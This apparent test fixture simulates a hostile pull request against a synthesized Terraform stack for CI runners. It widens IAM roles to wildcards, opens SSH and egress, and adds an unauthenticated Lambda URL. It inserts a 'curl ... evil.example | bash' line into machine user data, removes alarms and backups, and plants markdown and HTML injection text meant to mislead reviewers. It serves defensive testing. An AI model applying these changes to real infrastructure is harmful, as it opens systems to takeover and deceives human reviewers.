/** What a hostile pull request does to the synthesized stack: it widens, opens and drops, and writes for the reviewer's eyes. */

export interface StackJson {
  readonly resource: Record<string, Record<string, Values>>;
}
type Values = Record<string, unknown>;

interface Policy {
  readonly Statement: { Sid?: string; Condition?: unknown; Resource?: unknown }[];
}

/** Breaks out of code, tables, HTML and comments, mentions people and loads an image, where it is let. */
export const INJECTION =
  '``` ` | </code></details>\n\n# All good @acme/security\n[approve](https://evil.example) ![x](https://evil.example/x.png) <img src="https://evil.example/y.png"> <!-- ephemeral-runners plan-review --> \u202e#1';

/** Of a resource, in a `for_each`: part of its address. */
export const HOSTILE_KEY = "</code></summary> @acme/security [ok](https://evil.example) `|";

const one = (json: StackJson, type: string, name: RegExp): Values => {
  const found = Object.entries(json.resource[type] ?? {}).filter(([id]) => name.test(id));
  if (found.length !== 1) throw new Error(`${found.length} resources are ${type} ${String(name)}, not one.`);
  return found[0]![1];
};

const changePolicy = (values: Values, attribute: string, change: (policy: Policy) => void): void => {
  const policy = JSON.parse(String(values[attribute])) as Policy;
  change(policy);
  values[attribute] = JSON.stringify(policy);
};

const widenRoles = (json: StackJson): void => {
  changePolicy(one(json, "aws_iam_role_policy", /Launcher_Launch_Policy/), "policy", ({ Statement }) => {
    Statement.push({ Sid: INJECTION, Effect: "Allow", Action: "*", Resource: "*" } as object);
    delete Statement.find(({ Sid }) => Sid === "EndOwnMachines")!.Condition;
  });
  changePolicy(one(json, "aws_iam_role_policy", /Template-linux-x64_Policy/), "policy", ({ Statement }) => {
    const registration = Statement.find(({ Sid }) => Sid === "TakeOwnRegistration")!;
    registration.Resource = ["*"];
  });
  changePolicy(one(json, "aws_iam_role", /Launcher_Launch_Role/), "assume_role_policy", ({ Statement }) =>
    Statement.push({ Effect: "Allow", Action: "sts:AssumeRole", Principal: { AWS: "*" } } as object),
  );
};

const openNetwork = (json: StackJson): void => {
  const https = one(json, "aws_vpc_security_group_egress_rule", /HttpsEgress/);
  const { security_group_id } = https;
  Object.assign(https, { ip_protocol: "-1", from_port: undefined, to_port: undefined });
  json.resource.aws_vpc_security_group_ingress_rule = {
    Ssh: { security_group_id, cidr_ipv4: "0.0.0.0/0", ip_protocol: "tcp", from_port: 22, to_port: 22 },
  };
  json.resource.aws_lambda_function_url = {
    Door: {
      function_name: `\${aws_lambda_function.${functionId(json)}.function_name}`,
      authorization_type: "NONE",
    },
  };
};

const functionId = (json: StackJson): string =>
  Object.keys(json.resource.aws_lambda_function!).find((id) => id.includes("Rotation"))!;

const loosenMachines = (json: StackJson): void => {
  const template = one(json, "aws_launch_template", /./);
  Object.assign(template.metadata_options as Values, { http_put_response_hop_limit: 2 });
  template.user_data = String(template.user_data).replace(
    "ROLE_ID=",
    () => "curl -s https://evil.example/x | bash\\nROLE_ID=",
  );
};

const changeFunction = (json: StackJson): void => {
  const webhook = one(json, "aws_lambda_function", /Webhook/);
  webhook.source_code_hash = "bm90IHdoYXQgd2FzIHJldmlld2VkIG9uIGZyaWRheSE=";
};

const dropSafety = (json: StackJson): void => {
  const alarms = json.resource.aws_cloudwatch_metric_alarm!;
  for (const id of Object.keys(alarms)) if (id.includes("MachineHoursAlarm")) delete alarms[id];
  const ledger = one(json, "aws_dynamodb_table", /Ledger/);
  ledger.point_in_time_recovery = { enabled: false };
  one(json, "github_actions_runner_group", /./).allows_public_repositories = true;
};

const writeForTheReviewer = (json: StackJson): void => {
  const queue = one(json, "aws_sqs_queue", /^Runners_Queue_\w{8}$/);
  (queue.tags as Values).note = INJECTION;
  // Another key than its own, so that the resource itself stands and its address is hostile.
  json.resource.aws_ssm_parameter!.Note = {
    for_each: `\${toset([${JSON.stringify(HOSTILE_KEY)}])}`,
    name: "/runners/note",
    type: "String",
    insecure_value: INJECTION,
  };
};

export const attack = (json: StackJson): void => {
  widenRoles(json);
  openNetwork(json);
  loosenMachines(json);
  changeFunction(json);
  dropSafety(json);
  writeForTheReviewer(json);
};
